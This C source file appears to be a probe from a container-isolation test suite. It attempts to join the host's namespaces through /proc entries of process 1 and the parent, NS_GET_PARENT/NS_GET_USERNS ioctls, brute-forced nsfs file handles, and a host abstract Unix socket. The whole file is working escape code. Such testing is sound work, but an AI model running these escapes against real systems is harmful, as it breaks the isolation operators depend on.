/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * namespaces ABSTRACT: ways into the host's namespaces: by what is open or can be opened in /proc, by asking
 * a namespace for its parent and owner, by file handles of namespaces; and the abstract Unix socket ABSTRACT
 * of the host's network.
 */
#include <dirent.h>
#include <linux/nsfs.h>
#include <sched.h>
#include <stddef.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>

#include "attack.h"

/* The numbers that the kernel gives to its first namespaces. */
static const struct {
    const char *name;
    int flag;
    unsigned number;
} kinds[] = {{"user", CLONE_NEWUSER, 0xeffffffd},     {"mnt", CLONE_NEWNS, 0xeffffff8},
             {"net", CLONE_NEWNET, 0xeffffff9},       {"pid", CLONE_NEWPID, 0xeffffffc},
             {"uts", CLONE_NEWUTS, 0xeffffffe},       {"ipc", CLONE_NEWIPC, 0xefffffff},
             {"cgroup", CLONE_NEWCGROUP, 0xeffffffb}, {"time", CLONE_NEWTIME, 0xeffffffa}};

#define EACH_KIND(i) for (unsigned i = 0; i < sizeof kinds / sizeof kinds[0]; i++)

static void join_only(void);

static int target = -1;

static void join(int fd, const char *format, const char *name)
{
    char what[128];
    snprintf(what, sizeof what, format, name);
    target = fd;
    if (fd < 0) {
        tried(-1, "%s", what);
        return;
    }
    printf("%s, ", what);
    apart(join_only);
}

static void join_only(void)
{
    struct stat own, its;
    char path[64];
    int type = ioctl(target, NS_GET_NSTYPE);
    bool same = false;
    EACH_KIND(i)
    {
        snprintf(path, sizeof path, "/proc/self/ns/%s", kinds[i].name);
        same |= kinds[i].flag == type && stat(path, &own) == 0 && fstat(target, &its) == 0 &&
                own.st_ino == its.st_ino;
    }
    errno = EALREADY; /* the container's own */
    tried(same ? -1 : setns(target, 0), "joined");
}

static void relatives(void)
{
    char path[64];
    EACH_KIND(i)
    {
        snprintf(path, sizeof path, "/proc/self/ns/%s", kinds[i].name);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            continue;
        if (kinds[i].flag == CLONE_NEWUSER || kinds[i].flag == CLONE_NEWPID)
            join(ioctl(fd, NS_GET_PARENT), "parent %s", kinds[i].name);
        if (kinds[i].flag != CLONE_NEWUSER)
            join(ioctl(fd, NS_GET_USERNS), "owner of %s", kinds[i].name);
        close(fd);
    }
}

static void through_processes(void)
{
    char path[64];
    EACH_KIND(i)
    {
        snprintf(path, sizeof path, "/proc/1/ns/%s", kinds[i].name);
        join(open(path, O_RDONLY | O_CLOEXEC), "%s of process 1", kinds[i].name);
        snprintf(path, sizeof path, "/proc/%d/ns/%s", getppid(), kinds[i].name);
        join(open(path, O_RDONLY | O_CLOEXEC), "%s of the parent", kinds[i].name);
    }
}

#ifndef FD_NSFS_ROOT
#define FD_NSFS_ROOT (-10003)
#endif

/* Linux 6.18: a namespace opened by its number. */
static void by_handle(void)
{
    struct {
        struct file_handle header;
        uint64_t id;
        uint32_t type, number;
    } __attribute__((packed)) handle;
    EACH_KIND(i)
    {
        int fd = -1;
        for (uint64_t id = 0; id < 16 && fd < 0; id++) {
            handle.header.handle_bytes = 16;
            handle.header.handle_type = 0xf1;
            handle.id = id;
            handle.type = (uint32_t)kinds[i].flag;
            handle.number = kinds[i].number;
            fd = (int)syscall(SYS_open_by_handle_at, FD_NSFS_ROOT, &handle, O_RDONLY);
        }
        join(fd, "%s by handle", kinds[i].name);
    }
}

static void abstract_socket(const char *name)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t length = strlen(name);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    memcpy(address.sun_path + 1, name, length);
    tried(connect(fd, (struct sockaddr *)&address,
                  (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length)),
          "abstract socket");
    close(fd);
}

int main(int count, char **words)
{
    if (count != 2)
        return 2;
    relatives();
    through_processes();
    by_handle();
    abstract_socket(words[1]);
    return 0;
}
